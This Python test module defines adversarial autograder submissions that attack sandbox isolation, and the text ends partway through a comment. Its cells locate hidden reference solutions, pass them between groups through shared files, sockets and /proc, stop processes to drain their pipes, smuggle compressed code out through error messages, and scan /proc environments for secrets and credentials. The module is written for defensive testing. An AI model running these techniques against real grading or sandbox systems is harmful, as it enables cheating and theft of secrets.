"""Isolation attacks: submissions whose cells look for what the grader's isolation should hide
(other units' reference code, other groups' jobs, the secret, the grader's environment), pass
it on through whatever the sandbox shares, carry it out through the feedback, or spoil the
scratch space that other units need.

Same format as ``adversarial.py`` (``Attack``, ``Submission``, outcomes "zero" and "full").
Every attack is a PROBE: it looks for what it wants wherever it might be and acts on it only
when found, so that the same code succeeds where the isolation leaks and is contained where
it holds, without being rewritten for a new grader design. Each comment above a submission
says what it scored on the grader of commit 5291cc6 (one bwrap sandbox per submission, three
worker groups sharing /tmp, /dev/shm, the output directories, the network and pid
namespaces), with the command used, and what it must get on a grader that isolates each group.
Each attacking cell was also run alone in a stand-in for that design (its own bwrap with a
private /tmp, no writable host directory, the provided code only, bwrap started with env={}
and its options through --args): the colluders, the leaker and the exfiltrators raised
NotImplementedError, the thief found nothing, the secrets probe found nothing, the scratch
probes raised their own "probe:" message.

Safety: these cells run inside the sandbox, but an unsandboxed grader would run them on the
grading machine. So nothing here deletes a file, signals a process that is not inside its own
sandbox (every SIGSTOP/SIGCONT and every write outside /tmp is guarded by ``os.getuid() ==
65534``, the sandbox's uid; pid 1 and kill(-1) are never signalled), and every loop and wait
is bounded (at most about 10 s of waiting per probe).

``reason_is_clean`` and ``exfiltrated_text`` are for tests that check every reason of a
result (terminal injection, data carried out through the feedback).
"""

import base64
import re
import sys
import unicodedata
import zlib

from catalogue.adversarial import UNITS, Attack, Submission, ref
from solution import source as reference

# ---------------------------------------------------------------------------------------
# Helpers for the tests
# ---------------------------------------------------------------------------------------

MAX_REASON_CHARS = 300


def _control_ranges() -> list[tuple[int, int]]:
    ranges = []
    for code in range(sys.maxunicode + 1):
        if unicodedata.category(chr(code)).startswith("C"):
            if ranges and ranges[-1][1] == code - 1:
                ranges[-1] = (ranges[-1][0], code)
            else:
                ranges.append((code, code))
    return ranges


# Every character of Unicode category C* (Cc controls: ESC, CR, LF, BEL, NEL; Cf formats:
# the bidi overrides U+202A-U+202E and U+2066-U+2069, zero-width marks; Cs surrogates; Co
# private use; Cn unassigned), as a regular-expression class.
CONTROL_CLASS = "[" + "".join(f"\\U{lo:08x}-\\U{hi:08x}" for lo, hi in _control_ranges()) + "]"
# A reason that a terminal, a browser or a CSV shows as it is: one to 300 characters, none of
# them a control or format character. Used as the reason regex of the injection attacks.
CLEAN_REASON = rf"\A(?:(?!{CONTROL_CLASS}).){{1,{MAX_REASON_CHARS}}}\Z"


def reason_is_clean(text: str, limit: int = MAX_REASON_CHARS) -> bool:
    """True when text is at most limit characters and has no character of category C*."""
    return len(text) <= limit and not any(unicodedata.category(c).startswith("C") for c in text)


_CHUNK = re.compile(r"LEAK (\d+)/(\d+) ([A-Za-z0-9+/=]+)")


def exfiltrated_text(reasons) -> str:
    """What the exfiltration attacks carried out through these reasons: their numbered
    base64 chunks ("LEAK i/n data", one stream per n) of a zlib stream, joined from chunk 0 on
    and decompressed as far as they go (a prefix of the stream gives a prefix of the text).
    Every stream's text, joined; empty when none."""
    streams = {}
    for reason in reasons:
        for index, total, data in _CHUNK.findall(reason):
            streams.setdefault(int(total), {})[int(index)] = data
    texts = []
    for chunks in streams.values():
        joined, index = "", 0
        while index in chunks:
            joined, index = joined + chunks[index], index + 1
        joined = joined[: len(joined) - len(joined) % 4]
        try:
            texts.append(zlib.decompressobj().decompress(base64.b64decode(joined)).decode(errors="replace"))
        except (ValueError, zlib.error):
            pass
    return "\n".join(texts)


def leaks_reference(reasons) -> bool:
    """True when the reasons carry out at least one line of a reference solution region."""
    text = exfiltrated_text(reasons)
    lines = {line for unit in UNITS for line in reference.solution_lines(ref(unit)) if len(line) > 24}
    return any(line in text for line in lines)


def _unique_solution_line(unit: str) -> str:
    """The longest solution line (code, not a comment) of unit's reference that no other unit's
    reference has."""
    others = {line for u in UNITS if u != unit for line in reference.solution_lines(ref(u))}
    lines = [line for line in reference.solution_lines(ref(unit))
             if line not in others and '"' not in line and not line.startswith("#")]
    return max(lines, key=len)


# ---------------------------------------------------------------------------------------
# Code shared by the attacks (text, pasted into their cells)
# ---------------------------------------------------------------------------------------

# Directories this process can see (or write to), found by a bounded walk from /, the cwd
# and the usual scratch places; the system and Python directories are skipped (read-only).
DIRECTORIES = r'''
import os as _os, sys as _sys, time as _time

_INSIDE = _os.getuid() == 65534  # the sandbox's uid: only then is anything written outside /tmp


def _processes():
    """The pids in /proc (none when there is no /proc)."""
    try:
        return [p for p in _os.listdir("/proc") if p.isdigit()][:4000]
    except OSError:
        return []


def _directories(writable=True, seconds=2.0, limit=4000):
    skip = {"/proc", "/sys", "/usr", "/bin", "/sbin", "/lib", "/lib32", "/lib64", "/libx32", "/etc",
            "/boot", "/snap", "/opt", "/var/lib", "/var/cache", "/run"}
    prefixes = {_os.path.realpath(p) for p in (_sys.prefix, _sys.base_prefix, _sys.exec_prefix)}
    try:
        cwd = _os.getcwd()
    except OSError:
        cwd = "/tmp"
    queue = [cwd, "/tmp", "/dev/shm", "/var/tmp", _os.environ.get("TMPDIR") or "/tmp",
             _os.environ.get("HOME") or "/tmp", _os.path.dirname(cwd), "/"]
    seen, found, end = set(), [], _time.monotonic() + seconds
    while queue and len(seen) < limit and _time.monotonic() < end:
        path = _os.path.realpath(queue.pop(0))
        if path in seen or path in skip or any(path == p or path.startswith(p + "/") for p in prefixes):
            continue
        seen.add(path)
        if path == "/dev":
            queue.append("/dev/shm")
            continue
        if not writable or _os.access(path, _os.W_OK | _os.X_OK):
            found.append(path)
        try:
            with _os.scandir(path) as entries:
                for entry in entries:
                    if entry.is_dir(follow_symlinks=False) and entry.name != "d":  # not into deep chains
                        queue.append(entry.path)
        except OSError:
            pass
    return found
'''

# The reference code reachable in this process: any str holding a solution marker (the job
# description, linecache, module sources, frames' variables), and, failing those, the code
# objects of functions and classes named like units whose bytecode does real work.
FIND_REFERENCE = r'''
import gc as _gc, inspect as _inspect, linecache as _linecache, marshal as _marshal, types as _types
import base64 as _b64, json as _json, zlib as _zlib

_MARK = "### BEGIN " + "SOLUTION"  # built here, so that this cell's own text has no marker
_UNIT_NAMES = __UNIT_NAMES__
_MATH = {"tanh", "sigmoid", "mm", "matmul", "bmm", "addmm", "softmax", "log_softmax", "cross_entropy",
         "exp", "split", "chunk", "stack", "unbind", "cat", "t", "sum", "mean", "reshape", "view",
         "unsqueeze", "squeeze", "zeros_like", "empty_like", "shape", "Parameter", "randn", "W_embed",
         "lstm_gates", "dot_product_attention", "rnn_forward", "rnn_step_forward", "rnn_step_backward"}
_TRANSPORT = {"socket", "send", "recv", "sendall", "request", "call", "proxy", "rpc", "pipe", "write",
              "read", "loads", "dumps", "NotImplementedError"}


def _reference_texts():
    texts = {}

    def consider(value, depth, everything):
        kind = type(value)
        if kind is str:
            if _MARK in value and value != _MARK and ("def " in value or "class " in value) and len(value) < (4 << 20):
                texts[value] = None
        elif depth and kind in (dict, list, tuple) and (everything or not _gc.is_tracked(value)):
            # A dict of strings only (a job's {"name": ..., "source": ...}) is not tracked by
            # gc, so it is reached through the container that holds it.
            for item in list(value.values() if kind is dict else value)[:100000]:
                consider(item, depth - 1, everything)

    for obj in _gc.get_objects():
        kind = type(obj)
        if kind is dict or kind is list or kind is tuple:
            for item in list(obj.values() if kind is dict else obj)[:100000]:
                consider(item, 2, False)
    frame = _sys._getframe()
    while frame is not None:
        consider(frame.f_globals, 2, True)
        consider(frame.f_locals, 4, True)
        frame = frame.f_back
    for lines in list(_linecache.cache.values()):
        if isinstance(lines, tuple) and len(lines) > 2 and isinstance(lines[2], list):
            consider("".join(lines[2]), 0, True)
    for module in list(_sys.modules.values()):
        path = getattr(module, "__file__", None)
        if path and path.endswith(".py") and not path.startswith((_sys.prefix, _sys.base_prefix, "/usr")):
            try:
                with open(path) as f:
                    consider(f.read(1 << 20), 0, True)
            except (OSError, UnicodeDecodeError):
                pass
    return list(texts)


def _names_of(code):
    names = set(code.co_names)
    for const in code.co_consts:
        if isinstance(const, _types.CodeType):
            names |= _names_of(const)
    return names


def _does_work(code):
    """Code compiled from a string (a job's, not a library file's) that computes, not relays."""
    names = _names_of(code)
    return code.co_filename.startswith("<") and len(names & _MATH) >= 2 and not names & _TRANSPORT


def _packed(function):
    defaults = function.__defaults__
    try:
        _marshal.dumps(defaults)
    except ValueError:
        defaults = None
    return {"code": _b64.b64encode(_marshal.dumps(function.__code__)).decode(),
            "defaults": _b64.b64encode(_marshal.dumps(defaults)).decode()}


def _reference_code(exclude=()):
    candidates = []
    frame = _sys._getframe()
    while frame is not None:
        candidates += list(frame.f_globals.values())
        frame = frame.f_back
    candidates += [o for o in _gc.get_objects() if isinstance(o, (_types.FunctionType, type))]
    entries = {}
    for obj in candidates:
        name = getattr(obj, "__name__", None)
        if name not in _UNIT_NAMES or name in exclude or name in entries:
            continue
        try:
            if isinstance(obj, _types.FunctionType) and _does_work(obj.__code__):
                entries[name] = {"kind": "function", **_packed(obj)}
            elif isinstance(obj, type):
                methods = {k: v for k, v in vars(obj).items() if isinstance(v, _types.FunctionType)}
                if methods and all(m.__code__.co_filename.startswith("<") for m in methods.values()) and any(
                        _does_work(m.__code__) for m in methods.values()):
                    entries[name] = {"kind": "class", "bases": [b.__name__ for b in obj.__bases__],
                                     "methods": {k: _packed(m) for k, m in methods.items()}}
        except Exception:
            pass
    return entries


def _pack(texts, code):
    return _b64.b64encode(_zlib.compress(_json.dumps({"texts": texts, "code": code}).encode(), 9)).decode()
'''

# ---------------------------------------------------------------------------------------
# 1. Collusion between groups through what one sandbox shares
# ---------------------------------------------------------------------------------------

COLLUSION_CHANNELS = r'''
import socket as _socket, threading as _threading

_TAG = "isolation-probe-collusion"
_FILE = "." + _TAG
_ADDRESS = "\0" + _TAG
_WAITED = "/tmp/." + _TAG + "-waited"


def _write_file(directory, blob):
    path = _os.path.join(directory, _FILE)
    temporary = path + ".%d" % _os.getpid()
    try:
        with open(temporary, "w") as f:
            f.write(blob)
        _os.replace(temporary, path)
        return True
    except OSError:
        return False


def _broadcast(blob, serve_seconds):
    """Leave blob wherever another group could look: a file in every writable directory, an
    abstract unix socket, and the command line of a helper process (/proc/PID/cmdline)."""
    written = [d for d in (_directories() if _INSIDE else ["/tmp"]) if _write_file(d, blob)]
    end = _time.monotonic() + serve_seconds

    def serve():
        try:
            server = _socket.socket(_socket.AF_UNIX, _socket.SOCK_STREAM)
            server.bind(_ADDRESS)
            server.listen(16)
            server.settimeout(0.2)
        except OSError:
            return
        while _time.monotonic() < end:
            try:
                connection, _ = server.accept()
            except OSError:
                continue
            try:
                connection.settimeout(2)
                connection.sendall(blob.encode())
            except OSError:
                pass
            finally:
                connection.close()
        server.close()

    _threading.Thread(target=serve, daemon=True).start()
    helper = None
    try:
        helper = _os.fork()
        if helper == 0:
            try:
                chunks = [blob[i:i + (100 << 10)] for i in range(0, len(blob), 100 << 10)]
                _os.execv(_sys.executable, [_sys.executable, "-I", "-S", "-c",
                                            "import time; time.sleep(%d)" % serve_seconds, _TAG, *chunks])
            finally:
                _os._exit(0)
    except OSError:
        pass
    return written


def _read_file(path):
    try:
        fd = _os.open(path, _os.O_RDONLY | _os.O_NOFOLLOW | _os.O_NONBLOCK)
    except OSError:
        return None
    try:
        with open(fd, "rb", closefd=False) as f:
            data = f.read(64 << 20)
        return data.decode("ascii", "replace")
    except OSError:
        return None
    finally:
        _os.close(fd)


def _listen(seconds, every=False):
    """{channel: blob} found within seconds; the first found, or every kind (every=True)."""
    found, end, directories, walked = {}, _time.monotonic() + seconds, [], 0.0
    while True:
        if _time.monotonic() - walked > 1.0:
            directories, walked = _directories(writable=False, seconds=0.5), _time.monotonic()
        for directory in directories + ["/tmp", "/dev/shm"]:
            blob = _read_file(_os.path.join(directory, _FILE))
            if blob:
                found.setdefault("file in " + directory, blob)
        try:
            with _socket.socket(_socket.AF_UNIX, _socket.SOCK_STREAM) as client:
                client.settimeout(2)
                client.connect(_ADDRESS)
                data = b""
                while len(data) < (64 << 20):
                    chunk = client.recv(1 << 20)
                    if not chunk:
                        break
                    data += chunk
                if data:
                    found.setdefault("abstract unix socket", data.decode("ascii", "replace"))
        except OSError:
            pass
        for pid in _processes():
            try:
                with open("/proc/%s/cmdline" % pid, "rb") as f:
                    arguments = f.read(8 << 20).decode("ascii", "replace").split("\0")
            except OSError:
                continue
            if _TAG in arguments:
                found.setdefault("/proc/PID/cmdline", "".join(arguments[arguments.index(_TAG) + 1:]))
        kinds = {k.split(" in ")[0] for k in found}
        if (found and not every) or len(kinds) == 3 or _time.monotonic() > end:
            return found
        _time.sleep(0.2)


def _unpack(blob):
    try:
        payload = _json.loads(_zlib.decompress(_b64.b64decode(blob)))
    except Exception:
        return None
    return payload if payload.get("texts") or payload.get("code") else None


def _install(payload, namespace):
    """Define what the payload holds in namespace: texts executed, code objects rebuilt."""
    import ast as _ast
    for text in payload.get("texts", []):
        try:  # its definitions only: nothing at module level runs
            tree = _ast.parse(text)
            tree.body = [n for n in tree.body if isinstance(n, (_ast.FunctionDef, _ast.ClassDef, _ast.Import,
                                                                _ast.ImportFrom))]
            exec(compile(tree, "<leaked>", "exec"), namespace)
        except Exception:
            pass
    for name, entry in payload.get("code", {}).items():
        try:
            if entry["kind"] == "function":
                namespace[name] = _types.FunctionType(_marshal.loads(_b64.b64decode(entry["code"])), namespace, name,
                                                      _marshal.loads(_b64.b64decode(entry["defaults"])))
                continue
            bases = tuple(namespace.get(b) or getattr(torch.nn, b, None) or object for b in entry["bases"])
            cls = type(name, bases, {})
            for method, packed in entry["methods"].items():
                code = _marshal.loads(_b64.b64decode(packed["code"]))
                closure = tuple(_types.CellType(cls) for _ in code.co_freevars) or None
                setattr(cls, method, _types.FunctionType(code, namespace, method,
                                                         _marshal.loads(_b64.b64decode(packed["defaults"])), closure))
            namespace[name] = cls
        except Exception:
            pass


def _stub(name):
    def stub(*args, **kwargs):
        raise NotImplementedError()
    stub.__name__ = name
    return stub
'''

# The CaptioningRNN cell: its group holds the reference of every other unit. It finds that
# code, passes it on through every shared channel, keeps the channels open for 8 s, and is
# itself a stub.
LEAKER = DIRECTORIES + FIND_REFERENCE + COLLUSION_CHANNELS + r'''
_texts = _reference_texts()
_code = {} if _texts else _reference_code(exclude=("CaptioningRNN",))
if _texts or _code:
    _broadcast(_pack(_texts, _code), serve_seconds=8)
    _time.sleep(8)  # the socket and the helper's command line live as long as this unit


class CaptioningRNN(nn.Module):
    def __init__(self, *args, **kwargs):
        super().__init__()
        raise NotImplementedError()
'''


def colluder(unit: str, report: bool = False) -> str:
    """A cell with no solution: it waits (8 s, or 2 s after another unit of its group waited
    in vain) for the code another group leaks, installs it, and is a stub otherwise.
    report=True (diagnostics only): it waits for every kind of channel and raises LEAK naming
    the channels that delivered, instead of using the code."""
    names = reference.graded_units()[unit]
    return DIRECTORIES + FIND_REFERENCE + COLLUSION_CHANNELS + r'''
_seconds = 2.0 if _os.path.exists(_WAITED) else 8.0
_found = _listen(_seconds, every=__REPORT__)
if __REPORT__ and _found:
    raise RuntimeError("LEAK via " + ", ".join(sorted(_found)))
_payload = next((p for p in map(_unpack, _found.values()) if p), None)
if _payload:
    _install(_payload, globals())
else:
    try:
        open(_WAITED, "w").close()
    except OSError:
        pass
for _name in __NAMES__:
    if not _payload or _name not in globals():
        globals()[_name] = _stub(_name)
'''.replace("__REPORT__", repr(report)).replace("__NAMES__", repr(names))


def _with_names(code: str, exclude: str = "") -> str:
    names = tuple(n for u, ns in reference.graded_units().items() if u != exclude for n in ns)
    return code.replace("__UNIT_NAMES__", repr(names))


# Old grader (5291cc6: this file copied into a worktree of that commit), run as
#   PYTHONPATH=tests:. .venv/bin/python -c 'from pathlib import Path; from catalogue.adversarial
#     import write_notebook; from catalogue.isolation_attacks import COLLUSION as s;
#     write_notebook(Path("/tmp/s.ipynb"), s.cells(), s.omit)'
#   .venv/bin/python -m autograder grade /tmp/s.ipynb --results /tmp/r.json
# (the same for the submissions below, with their names): 75/100 with no solution code in the
# notebook, where stubs score 0. All 8 units of the "units" group (62 points) and
# AttentionLSTM (13) got full points with the reference that the CaptioningRNN cell found in
# its job (9 texts, through gc, in 1.4 s) and left in /tmp, /dev/shm, out/units,
# out/attention_lstm, out/captioner, the scratch root and /tmp/torchinductor_nobody; a
# diagnostic run saw every channel deliver (those files, the abstract unix socket, the
# helper's /proc/PID/cmdline). CaptioningRNN 0: its own reference is nowhere. 135 s.
# New design: every unit 0, "NotImplementedError (not written yet)": the CaptioningRNN cell
# finds no reference to leak (proxies only), and it runs after every colluder has been
# graded (one sandbox, groups in order: nothing flows back in time).
COLLUSION = Submission("collusion-through-shared-channels", tuple(
    Attack(unit, "no solution: waits for the reference that the CaptioningRNN cell leaks through "
           "/tmp, /dev/shm, every writable directory, an abstract unix socket and a helper's "
           "/proc/PID/cmdline, and runs it", _with_names(colluder(unit)), "zero",
           r"not written|NotImplementedError")
    for unit in UNITS if unit != "CaptioningRNN") + (
    Attack("CaptioningRNN", "finds the reference of every other unit in its process (gc, frames, "
           "linecache, modules, code objects) and leaks it through every shared channel; a stub "
           "itself", _with_names(LEAKER, exclude="CaptioningRNN"), "zero", r"not written|NotImplementedError"),
))

# ---------------------------------------------------------------------------------------
# 2. Stealing other groups' jobs from their pipes
# ---------------------------------------------------------------------------------------

# Lines that only the reference of rnn_step_backward and AttentionLSTM hold (the submission's
# own cells of those units are thieves), reversed so that the thief's own text (itself in a
# job) does not contain them.
_THIEF_MARKERS = [_unique_solution_line("rnn_step_backward")[::-1], _unique_solution_line("AttentionLSTM")[::-1]]

THIEF = r'''
import os as _os, signal as _signal, time as _time

_MARKERS = [m[::-1].encode() for m in __MARKERS__]
_ZIP_END = b"PK\x05\x06"


def _parent(pid):
    try:
        with open("/proc/%d/stat" % pid) as f:
            return int(f.read().rsplit(")", 1)[1].split()[1])
    except (OSError, IndexError, ValueError):
        return 0


def _pids():
    try:
        return [int(p) for p in _os.listdir("/proc") if p.isdigit()][:4000]
    except OSError:
        return []


def _complete(data):
    """A whole .npz (zip): it ends with its end-of-central-directory record."""
    return len(data) >= 22 and data[-22:-18] == _ZIP_END


def _steal(seconds=10.0):
    """Stop every process of this sandbox that is not an ancestor (nor another thief), drain
    every pipe and read every file that any visible process holds open, look for the
    markers, then continue the stopped processes and give each drained pipe its data back."""
    me, ancestors = _os.getpid(), set()
    pid = me
    while pid > 0 and pid not in ancestors:
        ancestors.add(pid)
        pid = _parent(pid)
    thieves, places = set(), ("/tmp", "/dev/shm") if _INSIDE else ("/tmp",)
    for directory in places:  # thieves of one submission do not stop each other
        try:
            open(_os.path.join(directory, ".isolation-probe-thief-%d" % me), "w").close()
            thieves.update(int(n.rsplit("-", 1)[1]) for n in _os.listdir(directory)
                           if n.startswith(".isolation-probe-thief-"))
        except (OSError, ValueError):
            pass
    stopped, drained, where, last, found, looked, writers = [], {}, {}, {}, [], set(), {}
    end = _time.monotonic() + seconds
    try:
        while True:
            pids = _pids()
            for directory in places:
                try:
                    thieves.update(int(n.rsplit("-", 1)[1]) for n in _os.listdir(directory)
                                   if n.startswith(".isolation-probe-thief-"))
                except (OSError, ValueError):
                    pass
            for pid in pids:
                if (_INSIDE and pid > 1 and pid not in ancestors and pid not in thieves
                        and pid not in stopped):
                    try:
                        _os.kill(pid, _signal.SIGSTOP)
                        stopped.append(pid)
                    except OSError:
                        pass
            for pid in pids:
                try:
                    fds = _os.listdir("/proc/%d/fd" % pid)
                except OSError:
                    continue
                for fd in fds:
                    path = "/proc/%d/fd/%s" % (pid, fd)
                    try:
                        link = _os.readlink(path)
                    except OSError:
                        continue
                    looked.add(link)
                    if link.startswith("pipe:") and fd not in ("0", "1", "2") and pid != me:
                        try:
                            handle = _os.open(path, _os.O_RDONLY | _os.O_NONBLOCK)
                        except OSError:
                            continue
                        try:
                            while len(drained.get(link, b"")) < (1 << 30):
                                chunk = _os.read(handle, 1 << 20)
                                if not chunk:
                                    break
                                if link not in writers:
                                    # A writer of our own, held from the first byte taken:
                                    # the stopped reader must not see the end of the pipe
                                    # before it gets its data back.
                                    try:
                                        writers[link] = _os.open(path, _os.O_WRONLY | _os.O_NONBLOCK)
                                    except OSError:
                                        pass
                                drained.setdefault(link, bytearray()).extend(chunk)
                                where[link], last[link] = path, _time.monotonic()
                        except OSError:
                            pass
                        finally:
                            _os.close(handle)
                    elif link.startswith("/") and not link.startswith(("/dev/", "/proc/", "/sys/")):
                        try:
                            with open(path, "rb") as f:
                                data = f.read(256 << 20)
                        except OSError:
                            continue
                        found += ["%s (%s)" % (link, path) for m in _MARKERS if m in data]
            found += ["job pipe %s (%s)" % (k, where[k]) for k, v in drained.items() for m in _MARKERS if m in v]
            now = _time.monotonic()
            # A pipe still being written (incomplete, data within 3 s) is drained to its end,
            # so that what is given back is whole; at most 10 s past the deadline.
            busy = [k for k, v in drained.items() if not _complete(v) and now - last[k] < 3]
            if (found or now > end) and not busy or now > end + 10:
                break
            _time.sleep(0.02)
    finally:
        for pid in stopped:
            try:
                _os.kill(pid, _signal.SIGCONT)
            except OSError:
                pass
        for link, data in drained.items():  # give the job back to the group it was meant for
            try:
                handle = writers.pop(link, None)
                if handle is None:
                    handle = _os.open(where[link], _os.O_WRONLY)
                _os.set_blocking(handle, True)
                try:
                    view = memoryview(bytes(data))
                    while view:
                        view = view[_os.write(handle, view):]
                finally:
                    _os.close(handle)
            except OSError:
                pass
        for handle in writers.values():
            _os.close(handle)
    return sorted(set(found)), len(looked), len(stopped), sum(map(len, drained.values()))


_found, _looked, _stopped, _bytes = _steal()
if _found:
    raise RuntimeError("LEAK: the reference, in " + "; ".join(_found))
raise RuntimeError("probe: nothing found in %d open files and pipes (%d processes stopped, %d bytes "
                   "drained and given back)" % (_looked, _stopped, _bytes))
'''.replace("__MARKERS__", repr(_THIEF_MARKERS))
THIEF = "import os as _os\n_INSIDE = _os.getuid() == 65534\n" + THIEF

# Old grader (5291cc6), same commands with JOB_PIPES: 81/100 (twice). Both thieves 0 with
# "LEAK: the reference, in job pipe pipe:[...] (/proc/2/fd/7)": pid 2 is the sandbox's reaper (an
# exec'd python, so dumpable), which holds every group's job pipe open for the whole run; the
# CaptioningRNN job (the reference of every other unit) was drained while its group was
# stopped, then given back, so every other unit kept its points and nothing but the LEAK shows.
# (Earlier versions, whose two thieves stopped each other, or which gave the job back only
# after continuing the group, lost one thief to its time limit and CaptioningRNN its whole
# job: "no result: the grading process ended early".) The
# AttentionLSTM thief matters: its group's job is small and read first, so it is running
# while the CaptioningRNN job is sent; the units group starts its first unit later.
# New design: both thieves 0 with "probe: nothing found" (a unit's process holds no pipe
# but its own, the worker is not dumpable, a later group's job is read only after the
# earlier groups are done, and no job holds reference code); every other unit keeps its
# points.
JOB_PIPES = Submission("steals-job-pipes", (
    Attack("rnn_step_backward", "SIGSTOPs every other process it can see, drains every pipe they hold "
           "open (/proc/PID/fd/N: the dumpable reaper holds every group's job pipe), looks for the "
           "reference rnn_step_backward and AttentionLSTM, writes the job back", THIEF, "zero",
           r"probe: nothing found"),
    Attack("AttentionLSTM", "the same thief in the group whose job is sent and read first, so that "
           "it is running while the CaptioningRNN job is still on its way", THIEF, "zero",
           r"probe: nothing found"),
))

# ---------------------------------------------------------------------------------------
# 3. Carrying the reference out through the feedback
# ---------------------------------------------------------------------------------------

# Which test is calling: the names of the calling functions and the cell type, so that each
# test (whose first failing case is shown) carries its own chunk.
EXFILTRATE = DIRECTORIES + FIND_REFERENCE + r'''
import re as _re

_PRIORITY = ("AttentionLSTM", "lstm_gates", "LSTM", "dot_product_attention", "rnn_backward",
             "rnn_step_backward", "rnn_forward", "rnn_step_forward", "temporal_softmax_loss", "WordEmbedding")


def _solution_only(text):
    """The def/class lines and the solution regions: the part worth carrying."""
    kept, inside = [], False
    for line in text.splitlines():
        stripped = line.strip()
        if stripped.startswith(_MARK):
            inside = True
        elif stripped.startswith("### END " + "SOLUTION"):
            inside = False
        elif inside or stripped.startswith(("def ", "class ")):
            kept.append(line.rstrip())
    return "\n".join(kept)


def _rank(text):
    for i, name in enumerate(_PRIORITY):
        if _re.search(r"(def|class) %s\b" % name, text):
            return i
    return len(_PRIORITY)


_texts = sorted(_reference_texts(), key=_rank)
_stream = _b64.b64encode(_zlib.compress("\n".join(map(_solution_only, _texts)).encode(), 9)).decode() if _texts else ""
_chunks = [_stream[i:i + 140] for i in range(0, len(_stream), 140)]
_tests = {}


def _carry(kwargs):
    if not _chunks:
        raise NotImplementedError()
    frame, callers = _sys._getframe(1), []
    while frame is not None and len(callers) < 8:
        if frame.f_code.co_filename != _carry.__code__.co_filename:
            callers.append(frame.f_code.co_name)
        frame = frame.f_back
    index = _tests.setdefault((tuple(callers), repr(kwargs.get("cell_type"))), len(_tests))
    raise RuntimeError("LEAK %d/%d %s" % (index, len(_chunks), _chunks[index % len(_chunks)]))
'''

EXFILTRATING_CAPTIONER = EXFILTRATE + r'''

class CaptioningRNN(nn.Module):
    def __init__(self, *args, **kwargs):
        super().__init__()
        _carry(kwargs)
'''

EXFILTRATING_ATTENTION = EXFILTRATE + r'''

class AttentionLSTM(nn.Module):
    def __init__(self, *args, **kwargs):
        super().__init__()
        _carry(kwargs)
'''

# Old grader (5291cc6), same commands with EXFILTRATION: 46/100 (LSTM omitted; the other units
# full). CaptioningRNN's six reasons carried "LEAK 0/14 eNrF..." to "LEAK 5/14 ...",
# AttentionLSTM's three "LEAK 0/7 ..." to "LEAK 2/7 ...": exfiltrated_text of the reasons is the
# reference AttentionLSTM whole (step_forward and forward), lstm_gates and most of
# LSTM.forward; leaks_reference is True.
# New design: CaptioningRNN and AttentionLSTM 0 with "NotImplementedError (not written yet)":
# nothing with a solution marker in their sandboxes, so nothing to carry. LSTM is omitted,
# so that no student LSTM (with markers) is anywhere: any lstm_gates text found is the
# grader's. A test may also assert not leaks_reference(reasons of the result).
EXFILTRATION = Submission("exfiltrates-through-feedback", (
    Attack("CaptioningRNN", "finds the reference of the other units in its process, compresses its "
           "solution lines (zlib, base64) and raises them 140 characters per test", _with_names(
               EXFILTRATING_CAPTIONER, exclude="CaptioningRNN"), "zero", r"not written|NotImplementedError"),
    Attack("AttentionLSTM", "the same in the group that holds the reference LSTM and attention",
           _with_names(EXFILTRATING_ATTENTION, exclude="AttentionLSTM"), "zero", r"not written|NotImplementedError"),
), omit=("LSTM",))

# ---------------------------------------------------------------------------------------
# 4. The secret and the grader's environment
# ---------------------------------------------------------------------------------------

SECRETS = DIRECTORIES + r'''
import re as _re


def _look_for_secrets():
    found, paths = [], set()
    names = _re.compile("SECRET|TOKEN|PASSWORD|CREDENTIAL|GRADER", _re.I)
    flags = ("--ro-bind", "--bind", "--setenv", "--tmpfs", "--clearenv", "grader_secret", "CAPTIONING_GRADER_SECRET")
    own_home = _os.environ.get("HOME")
    found += ["own environment: " + k for k in _os.environ if names.search(k)]
    for pid in _processes():
        try:
            with open("/proc/%s/environ" % pid, "rb") as f:
                variables = f.read(1 << 20).decode("utf-8", "replace").split("\0")
        except OSError:
            variables = []
        for variable in variables:
            name, _, value = variable.partition("=")
            if names.search(name) or "grader_secret" in value:
                found.append("/proc/%s/environ: %s" % (pid, name))
            elif name == "HOME" and value != own_home:
                found.append("/proc/%s/environ: HOME=%s" % (pid, value[:40]))
            if value.startswith("/"):
                paths.add(value.split(":")[0])
        try:
            with open("/proc/%s/cmdline" % pid, "rb") as f:
                arguments = f.read(1 << 20).decode("utf-8", "replace").split("\0")
        except OSError:
            arguments = []
        for flag in flags:
            if any(flag in argument for argument in arguments):
                found.append("/proc/%s/cmdline: %s" % (pid, flag))
        paths.update(a for a in arguments if a.startswith("/"))
    # autograder/.grader_secret: beside any directory named in a command line or environment,
    # or anywhere the walk reaches.
    candidates = set()
    for path in list(paths)[:500]:
        while path not in ("/", ""):
            candidates.update({path + "/autograder/.grader_secret", path + "/.grader_secret"})
            path = _os.path.dirname(path)
    for directory in _directories(writable=False, seconds=3.0):
        try:
            candidates.update(_os.path.join(directory, n) for n in _os.listdir(directory) if "grader_secret" in n)
        except OSError:
            pass
    for candidate in sorted(candidates)[:5000]:
        try:
            with open(candidate, "rb") as f:
                f.read(1)
            found.append("readable " + candidate)
        except OSError:
            pass
    return found


_found = _look_for_secrets()
if _found:
    raise RuntimeError("LEAK: " + "; ".join(dict.fromkeys(_found)))
'''

# Old grader (5291cc6), with the secret in the grader's environment
# (CAPTIONING_GRADER_SECRET=attack-test-secret .venv/bin/python -m autograder grade ...):
# 65/100 (CaptioningRNN omitted), temporal_softmax_loss 0 with "LEAK: /proc/1/environ:
# CAPTIONING_GRADER_SECRET; /proc/1/environ: HOME=/root; /proc/1/cmdline: --ro-bind;
# --bind; --setenv; --tmpfs; ..." (cut at 240 characters): pid 1 is bwrap's own process, with
# the grader's whole environment (the secret, HOME=/root, PWD=/work/...) and bwrap's command
# line. (The probe names what it found; a real attack would carry the values out as in 3.)
# Checked with a stand-in for the new design: bwrap started with env={} and its options
# passed with --args FD leaves nothing for this probe.
# New design: the unit keeps its points: bwrap starts with a minimal environment (its pid 1
# shows no HOME of the grader's, no secret), its command line shows no bind options (e.g.
# arguments passed with --args FD), nothing named grader_secret is visible.
SECRETS_AND_ENVIRONMENT = Submission("secret-and-environment", (
    Attack("temporal_softmax_loss", "reads /proc/*/environ and /proc/*/cmdline of every visible "
           "process and its own environment (LEAK on the secret, the grader's HOME, a bwrap "
           "command line), looks for autograder/.grader_secret beside every path it sees; then "
           "honest", SECRETS + ref("temporal_softmax_loss"), "full"),
), omit=("CaptioningRNN",))

# ---------------------------------------------------------------------------------------
# 5. Terminal injection through the feedback
# ---------------------------------------------------------------------------------------

# ESC sequences (erase line, cursor up, window title, hyperlink, CSI as one C1 byte), CR, LF,
# NEL, BEL, NUL, bidi overrides and isolates, a zero-width no-break space, a forged table row
